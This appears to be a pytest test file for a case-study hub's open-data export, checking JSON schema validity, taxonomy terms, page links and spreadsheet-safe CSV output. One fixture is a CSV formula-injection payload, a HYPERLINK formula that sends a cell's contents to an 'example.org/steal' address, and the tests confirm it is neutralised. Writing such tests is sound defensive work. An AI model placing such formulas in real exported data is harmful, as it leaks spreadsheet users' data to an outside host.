"""The whole collection as open data: JSON valid against its schema, CSV safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import pytest
from jsonschema import Draft202012Validator

from cohub.hub import load_hub
from cohub.open_data import collection, collection_csv, open_data_schema, spreadsheet_safe
from tests.conftest import build_hub, copy_hub
from tests.test_check import VALID, write
from tests.test_facets import FUNDING_MODELS, add_funding_model
from tests.test_feeds import SITE_URL

if TYPE_CHECKING:
    from pathlib import Path

FORMULA_TITLE = '=HYPERLINK("https://example.org/steal?"&A1, "Open")'
FORMULA_SUMMARY = "+1 tenants sat on the panel that chose who runs their homes, with a 'quote' and \"more\"."
FORMULA_PLACE = "@SUM(1+1)"


def formula(text: str) -> str:
    return (
        text.replace("title: A tenancy panel run by tenants", f"title: '{FORMULA_TITLE}'")
        .replace(
            "summary: Tenants sat on the panel that chose who runs their homes.",
            "summary: '" + FORMULA_SUMMARY.replace("'", "''") + "'",
        )
        .replace("place: Essex", f"place: '{FORMULA_PLACE}'")
        .replace("date: 2025-03-31", "date: 2027-02-01")
    )


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("open-data") / "hub"
    root.mkdir()
    copy_hub(root)
    write(root, formula(VALID), "formula.md")
    return build_hub(root, root.parent / "site")


def validator(schema: dict) -> Draft202012Validator:
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def test_the_json_is_valid_against_the_schema_the_site_ships(site: Path) -> None:
    data = json.loads((site / "case-studies.json").read_text(encoding="utf-8"))
    schema = json.loads((site / "case-studies.schema.json").read_text(encoding="utf-8"))
    errors = [error.message for error in validator(schema).iter_errors(data)]
    assert errors == []
    assert [record["slug"] for record in data["case_studies"]] == [
        "formula",
        "thurrock-direct-payments",
        "essex-tender-evaluation",
    ]
    essex = data["case_studies"][2]
    assert essex["address"] == f"{SITE_URL}case-studies/essex-tender-evaluation/"
    assert essex["source"]["url"] == "https://www.thinklocalactpersonal.org.uk/blog/My-journey-into-co-production-/"
    assert essex["source"]["publisher"] == "Think Local Act Personal (TLAP) blog"
    assert {"id": "tendering", "label": "Tendering and procurement"} in essex["terms"]["themes"]
    assert essex["terms"]["regions"] == [{"id": "east-of-england", "label": "East of England"}]
    assert essex["organisations"][0]["name"] == "Essex County Council"
    assert data["updated"] == "2027-02-01"
    # The JSON keeps text exactly as written.
    assert data["case_studies"][0]["title"] == FORMULA_TITLE
    # No comment data, not even whether a case study takes comments.
    assert "comment" not in (site / "case-studies.json").read_text(encoding="utf-8").lower()


def test_the_schema_refuses_a_term_the_taxonomy_does_not_have(site: Path) -> None:
    data = json.loads((site / "case-studies.json").read_text(encoding="utf-8"))
    schema = json.loads((site / "case-studies.schema.json").read_text(encoding="utf-8"))
    data["case_studies"][0]["terms"]["themes"].append({"id": "no-such-theme", "label": "No such theme"})
    assert not validator(schema).is_valid(data)
    del data["case_studies"][0]["terms"]["themes"]
    assert not validator(schema).is_valid(data)


def test_the_csv_parses_one_row_per_case_study_with_formulas_kept_as_text(site: Path) -> None:
    raw = (site / "case-studies.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfslug,title,"), raw[:20]
    text = raw.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["slug"] for row in rows] == ["formula", "thurrock-direct-payments", "essex-tender-evaluation"]
    assert rows[0]["title"] == "'" + FORMULA_TITLE
    assert rows[0]["summary"] == "'" + FORMULA_SUMMARY
    assert rows[0]["place"] == "'" + FORMULA_PLACE
    essex = rows[2]
    assert essex["address"] == f"{SITE_URL}case-studies/essex-tender-evaluation/"
    assert "Tendering and procurement" in essex["themes"].split("; ")
    assert essex["regions"] == "East of England"
    assert essex["source_url"].startswith("https://www.thinklocalactpersonal.org.uk/")
    assert essex["date"] == "2026-11-23"
    # No cell starts a formula.
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


def test_the_list_of_case_studies_links_the_data_and_what_it_holds(site: Path) -> None:
    listing = (site / "case-studies" / "index.html").read_text(encoding="utf-8")
    for address in (
        "../case-studies.json",
        "../case-studies.csv",
        "../case-studies.schema.json",
        "../open-data/",
        "../feeds/case-studies.xml",
    ):
        assert f'href="{address}"' in listing, address
    about = (site / "open-data" / "index.html").read_text(encoding="utf-8")
    assert "apostrophe" in about
    assert 'href="../case-studies.json"' in about


def test_terms_follow_the_facets_in_the_taxonomy(hub: Path) -> None:
    (hub / "taxonomy" / "funding_models.yml").write_text(FUNDING_MODELS, encoding="utf-8")
    add_funding_model(hub, "essex-tender-evaluation.md", "pooled-budget")
    loaded = load_hub(hub)
    assert not loaded.problems
    data = collection(loaded, "Hub", "About it.", "")
    assert "funding_models" in [facet["id"] for facet in data["facets"]]
    essex = next(record for record in data["case_studies"] if record["slug"] == "essex-tender-evaluation")
    assert essex["terms"]["funding_models"] == [{"id": "pooled-budget", "label": "Pooled budget"}]
    assert essex["address"] == "/case-studies/essex-tender-evaluation/"
    assert validator(open_data_schema(loaded.taxonomy)).is_valid(data)
    header = next(csv.reader(io.StringIO(collection_csv(data).removeprefix("\ufeff"), newline="")))
    assert "funding_models" in header


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Tenants = owners", "Tenants = owners"),
        ("'already quoted", "'already quoted"),
        ("", ""),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(cell: str, expected: str) -> None:
    assert spreadsheet_safe(cell) == expected
